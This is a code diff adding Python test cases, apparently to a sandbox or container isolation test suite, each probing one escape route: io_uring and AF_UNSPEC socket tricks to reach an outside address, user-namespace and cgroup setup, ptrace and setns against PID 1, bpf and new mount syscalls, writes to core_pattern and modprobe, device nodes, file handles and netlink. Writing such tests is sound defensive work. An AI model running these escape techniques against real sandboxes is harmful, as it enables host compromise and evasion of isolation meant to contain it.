@@ -370,6 +370,209 @@ def tracing_a_process_of_the_host():
     raise OSError(ctypes.get_errno(), "no such process here")
 
 
+def call(number, *arguments):
+    """A system call by its x86-64 number; OSError as the kernel says."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    got = libc.syscall(number, *arguments)
+    if got < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return got
+
+
+@attempt("17")
+def io_uring_connect():
+    ring = call(425, 8, ctypes.create_string_buffer(120))
+    # Without a filter there is a ring; the connect in it is judged like any other.
+    entries = io_uring(ring)
+    raise OSError(-entries, "refused") if entries < 0 else RuntimeError("connected")
+
+
+@attempt("17", fast=False)
+def vsock_listen():
+    s = socket.socket(40, socket.SOCK_STREAM)
+    s.bind((0xFFFFFFFF, 5000))
+    s.listen()
+
+
+@attempt("18")
+def reconnect_after_unspec():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((gateway(), 53))
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.connect(s.fileno(), bytes(16), 16)
+    s.connect(("203.0.113.66", 5000))
+    s.send(MARK)
+
+
+@attempt("18")
+def unspec_family_means_ipv4():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    target = struct.pack("=H", 0) + struct.pack("!H", 5000) + socket.inet_aton("203.0.113.66") + bytes(8)
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.sendto(s.fileno(), MARK, len(MARK), 0, target, len(target)) < 0:
+        raise OSError(ctypes.get_errno(), "refused")
+
+
+@attempt("18")
+def several_datagrams_in_one_call():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((gateway(), 53))
+    s.sendmsg([MARK], [], 0, ("203.0.113.66", 5000))
+
+
+@attempt("4")
+def every_spelling_of_the_host_itself():
+    for address in ("127.0.0.1", "127.0.0.53", "127.1.2.3", "0.0.0.0", own_address()):
+        try:
+            tcp((address, 22))
+        except OSError:
+            continue
+        return
+    raise OSError(errno.ECONNREFUSED, "none answers")
+
+
+@attempt("19", fast=False)
+def user_namespace_with_a_cgroup_tree():
+    # Root of a new namespace mounts the cgroup file system and goes into a child group of its own.
+    code = """
+import ctypes, os, socket, sys
+libc = ctypes.CDLL(None, use_errno=True)
+uid = os.getuid()
+if libc.unshare(0x10000000 | 0x00020000 | 0x02000000):
+    sys.exit(2)
+for name, line in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
+    open(f"/proc/self/{name}", "w").write(line)
+if libc.mount(b"none", b"/tmp", b"cgroup2", 0, None) == 0:
+    try:
+        os.makedirs("/tmp/a/b/c")
+        open("/tmp/a/b/c/cgroup.procs", "w").write("0")
+    except OSError:
+        pass
+s = socket.socket()
+s.settimeout(2)
+try:
+    s.connect(("203.0.113.66", 6379))
+except OSError:
+    sys.exit(1)
+s.send(b"escaped-")
+"""
+    code = os.spawnl(os.P_WAIT, "/usr/bin/python3", "python3", "-c", code)
+    if code:
+        raise OSError(errno.EACCES, f"child ended with {code}")
+
+
+@attempt("35")
+def borrowing_the_init_process():
+    # Root may trace root: an init without the filter would make the sockets that the filter refuses.
+    call(101, 0x4206, 1, 0, 0)
+    filtered = [line for line in open("/proc/1/status") if line.startswith("Seccomp:")]
+    if filtered[0].split()[1] == open("/proc/self/status").read().partition("Seccomp:")[2].split()[0]:
+        raise OSError(errno.EPERM, "and it has no more than we have")
+
+
+@attempt("35")
+def descriptors_of_the_init_process():
+    held = [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")]
+    own = {os.readlink(f"/proc/self/fd/{name}") for name in ("0", "1", "2")}
+    if all(one in own or one.startswith("anon_inode:") for one in held):
+        raise OSError(errno.ENOENT, "nothing of the host's")
+
+
+@attempt("35")
+def namespaces_by_descriptor():
+    for name in ("net", "mnt", "pid", "cgroup"):
+        call(308, os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)
+
+
+@attempt("35")
+def bpf_calls():
+    for command, size in ((12, 16), (7, 16), (0, 72), (5, 120)):  # next map id, object by path, new map, new program
+        try:
+            call(321, command, ctypes.create_string_buffer(struct.pack("IIII", 1, 4, 4, 1) + bytes(128)), size)
+        except OSError:
+            continue
+        return
+    raise OSError(errno.EPERM, "none is allowed")
+
+
+@attempt("35")
+def new_mount_calls():
+    for number, *arguments in ((430, b"cgroup2", 0), (428, -100, b"/", 1), (155, b"/tmp", b"/tmp")):
+        try:
+            call(number, *arguments)
+        except OSError:
+            continue
+        return
+    raise OSError(errno.EPERM, "none is allowed")
+
+
+@attempt("35")
+def programs_that_the_kernel_starts():
+    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger"):
+        try:
+            open(path, "r+b", buffering=0).close()
+        except OSError:
+            continue
+        return
+    raise OSError(errno.EROFS, "none can be written")
+
+
+@attempt("35")
+def devices_of_the_host():
+    for kind, major, minor in ((0o060666, 254, 0), (0o060666, 8, 0), (0o020666, 1, 1)):
+        try:
+            os.mknod("/tmp/device", kind, os.makedev(major, minor))
+            with open("/tmp/device", "rb") as device:
+                device.read(1)
+        except OSError:
+            continue
+        finally:
+            if os.path.exists("/tmp/device"):
+                os.unlink("/tmp/device")
+        return
+    raise OSError(errno.EPERM, "none can be opened")
+
+
+@attempt("35")
+def files_by_handle():
+    call(304, 3, ctypes.create_string_buffer(struct.pack("II", 8, 1) + bytes(24)), os.O_RDONLY)
+
+
+@attempt("36")
+def network_of_the_sandbox_itself():
+    # New links, addresses, routes and neighbours would need CAP_NET_ADMIN, which nobody has.
+    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+    new_address = struct.pack("=IHHII", 40, 20, 0x5 | 0x400, 1, 0) + struct.pack("=BBBBI", 2, 32, 0, 0, 2)
+    s.send(new_address + struct.pack("=HH4s", 8, 2, socket.inet_aton("10.231.80.254")) + bytes(8))
+    code = struct.unpack_from("=i", s.recv(4096), 16)[0]
+    if code:
+        raise OSError(-code, os.strerror(-code))
+
+
+def io_uring(ring):
+    """Connect to OPEN through a ring's submission queue; its result."""
+    import mmap
+
+    parameters = ctypes.create_string_buffer(120)
+    os.close(ring)
+    ring = call(425, 8, parameters)
+    head = struct.unpack_from("10I", parameters.raw, 40)  # sq_off: head tail mask entries flags dropped array
+    tail_at, array_at = head[1], head[6]
+    cq = struct.unpack_from("10I", parameters.raw, 80)  # cq_off: head tail mask entries overflow cqes
+    queue = mmap.mmap(ring, 4096, offset=0)
+    entries = mmap.mmap(ring, 4096, offset=0x10000000)
+    s = socket.socket()
+    target = ctypes.create_string_buffer(
+        struct.pack("=H", 2) + struct.pack("!H", OPEN[1]) + socket.inet_aton(OPEN[0]) + bytes(8)
+    )
+    entry = struct.pack("=BBHiQQII", 16, 0, 0, s.fileno(), 16, ctypes.addressof(target), 0, 0) + bytes(24)
+    entries[: len(entry)] = entry
+    struct.pack_into("=I", queue, array_at, 0)
+    struct.pack_into("=I", queue, tail_at, struct.unpack_from("=I", queue, tail_at)[0] + 1)
+    call(426, ring, 1, 1, 1, None, 0)
+    return struct.unpack_from("=i", queue, cq[5] + 8)[0]
+
+
 def gateway():
     for line in open("/etc/resolv.conf"):
         if line.startswith("nameserver"):
